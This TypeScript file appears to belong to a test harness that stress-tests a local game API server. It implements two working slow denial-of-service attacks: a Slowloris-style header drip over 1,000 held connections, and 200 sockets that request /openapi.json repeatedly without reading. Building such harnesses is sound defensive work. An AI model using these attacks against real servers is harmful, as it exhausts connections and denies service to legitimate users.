import { connect, type Socket } from "node:net";
import type { Attack } from "../attack.ts";
import { type Attacker, attackerAddress } from "../attackers/attacker.ts";
import { requestText } from "../attackers/hammer.ts";

const heads = 1_000;
const headAddresses = 4;
const readers = 200;
const readerAddresses = 4;
const requestsPerReader = 16;
const dripMs = 1_000;
const openedAtOnce = 50;
const openEveryMs = 20;

/** Keeps this many connections open from a few addresses; calls `start` for each new one. */
async function keepOpen(
  attacker: Attacker,
  { count, addresses }: { readonly count: number; readonly addresses: number },
  start: (socket: Socket) => void,
): Promise<void> {
  const open = new Set<Socket>();
  let opened = 0;
  while (!attacker.isOver) {
    const missing = Math.min(openedAtOnce, count - open.size);
    for (let number = 0; number < missing; number++) {
      const socket = connect(attacker.from(attackerAddress(1 + (opened++ % addresses))));
      open.add(socket);
      socket.on("connect", () => {
        attacker.opened();
        start(socket);
      });
      socket.on("error", (error) => attacker.cut(error));
      socket.on("close", () => open.delete(socket));
    }
    await attacker.pause(openEveryMs);
  }
  attacker.count("held at the end", open.size);
  for (const socket of open) socket.destroy();
}

export const slowHeads: Attack = {
  name: "slow-heads",
  about: "1,000 connections send the head of a request a few bytes per second",
  prepare: async () => ({ jobs: [{}] }),
  run: (attacker) =>
    keepOpen(attacker, { count: heads, addresses: headAddresses }, (socket) => {
      socket.resume();
      socket.write("GET /api/v1/games HTTP/1.1\r\nHost: 127.0.0.1\r\n");
      const dripping = setInterval(() => socket.write("X-Slow: 1\r\n"), dripMs);
      socket.on("close", () => clearInterval(dripping));
    }),
};

export const slowReaders: Attack = {
  name: "slow-readers",
  about: "200 connections ask 16 times for /openapi.json each and read nothing",
  prepare: async () => ({ jobs: [{}] }),
  run: (attacker) =>
    keepOpen(attacker, { count: readers, addresses: readerAddresses }, (socket) => {
      socket.pause();
      socket.write(requestText("GET", "/openapi.json").repeat(requestsPerReader));
    }),
};
